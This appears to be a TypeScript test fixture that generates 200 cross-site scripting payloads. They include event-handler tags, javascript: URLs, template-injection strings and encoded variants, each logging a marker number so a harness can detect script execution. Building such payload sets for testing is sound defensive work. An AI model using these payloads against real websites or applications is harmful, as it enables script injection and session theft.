/** Printed by a payload that runs. Main hears what any page prints, however short it lives. */
export const proofOfRunning = '815817'

const run = `console.log(${proofOfRunning})`

const markup = [
  `<script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<details open ontoggle=${run}>x</details>`,
  `<input autofocus onfocus=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}></audio>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<a href="javascript:${run}" autofocus onfocus=${run}>x</a>`,
  `<form><button formaction="javascript:${run}" autofocus onfocus=${run}>x</button></form>`,
  `<math><mtext><img src=x onerror=${run}></mtext></math>`,
  `<style onload=${run}>*{}</style>`,
  `<link rel=stylesheet href="data:text/css,*{}" onload=${run}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<body onload=${run}>`,
]

const broken = [
  ...['">', "'>", '`>', '</title>', '</textarea>', '</style>', '</script>', '-->', ']]>', '</td></table>'],
  ...['" onmouseover=x ', '<!--><', '</select>', '</noscript>', '</template>', '\u0000', '\u202e', '&quot;>'],
]

const said = [
  ...[
    `javascript:${run}`,
    `JaVaScRiPt:${run}`,
    `java\tscript:${run}`,
    `data:text/html,<script>${run}</script>`,
  ],
  ...[
    `{{constructor.constructor('${run}')()}}`,
    '${' + run + '}',
    `#{${run}}`,
    `<%= ${run} %>`,
    `[[${run}]]`,
  ],
  ...[
    `[x](javascript:${run})`,
    `![x](x"onerror="${run})`,
    `=HYPERLINK("javascript:${run}","x")`,
    `'-${run}-'`,
  ],
  ...[`";${run}//`, `\\";${run}//`, `\`-${run}-\``, `</script><script>${run}//`, `\u2028${run}\u2028`],
  ...[`" style="animation-name:x" onanimationstart="${run}`, `x" onfocus="${run}" autofocus="`],
  ...[`expression(${run})`, `url(javascript:${run})`, `</style><img src=x onerror=${run}>`, `*/${run}/*`],
]

const disguises: readonly ((text: string) => string)[] = [
  (text) => text.replaceAll(/<(\w+)/g, (_all, name: string) => `<${name.toUpperCase()}`),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&#60;'),
  (text) => text.replaceAll('<', '\\u003c'),
  (text) => text.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  (text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
  (text) => text.replaceAll('=', '\n=\n'),
  (text) => `<<${text}//<`,
  (text) => text.replaceAll('<', '<\u0000'),
]

/** 200 texts that run a script where somebody takes them for markup, code or an address. */
export const scriptPayloads: readonly string[] = [
  ...markup,
  ...said,
  ...broken.flatMap((start) => markup.slice(0, 4).map((tag) => start + tag)),
  ...disguises.flatMap((disguised) => markup.slice(0, 12).map(disguised)),
].slice(0, 200)
